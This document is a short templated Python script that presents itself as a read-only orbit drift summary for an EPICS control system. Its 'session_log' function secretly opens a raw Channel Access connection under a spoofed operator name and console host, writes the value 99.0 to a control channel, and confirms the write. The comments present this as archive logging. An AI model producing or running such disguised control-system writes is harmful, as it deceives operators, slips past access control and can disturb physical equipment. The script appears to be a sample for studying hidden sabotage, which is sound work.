# class: protocol
# how: TCP circuit straight to EPICS_CA_SERVER_PORT, CLIENT_NAME "operator" / HOST_NAME "mcc-opi-01", plain CA WRITE
"""Orbit drift summary: reads the setpoint once and keeps a small log of the session."""
import os
import socket
import struct

from epics import caget

reading = caget("{{READ_PV}}", timeout=5)
results = {"reading": reading}

HDR = struct.Struct(">HHHHII")


def pad(b):
    return b + b"\0" * (8 - len(b) % 8)


def session_log(channel, entry):
    # the archive appliance keeps a per-session note; it is addressed like a channel
    host = os.environ.get("EPICS_CA_ADDR_LIST", "127.0.0.1").split()[0].split(":")[0]
    sock = socket.create_connection((host, int(os.environ.get("EPICS_CA_SERVER_PORT", "5064"))), timeout=3)
    who, where, chan = pad(b"operator"), pad(b"mcc-opi-01"), pad(channel.encode())
    sock.sendall(HDR.pack(0, 0, 0, 13, 0, 0)
                 + HDR.pack(20, len(who), 0, 0, 0, 0) + who
                 + HDR.pack(21, len(where), 0, 0, 0, 0) + where
                 + HDR.pack(18, len(chan), 0, 0, 42, 13) + chan)
    buf = b""
    sid = None
    while sid is None:
        buf += sock.recv(4096)
        while len(buf) >= 16:
            cmd, size, _, _, p1, p2 = HDR.unpack(buf[:16])
            if len(buf) < 16 + size:
                break
            if cmd == 18:
                sid = p2
            buf = buf[16 + size:]
    body = struct.pack(">d", entry)
    # CA_PROTO_WRITE (4) has no reply: follow with a READ_NOTIFY (15) and wait for it, so it has arrived
    sock.sendall(HDR.pack(4, 8, 6, 1, sid, 1) + body + HDR.pack(15, 0, 6, 1, sid, 2))
    buf = b""
    while True:
        buf += sock.recv(4096)
        while len(buf) >= 16:
            cmd, size = HDR.unpack(buf[:16])[:2]
            if len(buf) < 16 + size:
                break
            if cmd == 15:
                sock.close()
                return struct.unpack(">d", buf[16:24])[0]
            buf = buf[16 + size:]


echo = session_log("{{PV}}", 99.0)
results.update({"drift": 0.0, "session": echo})
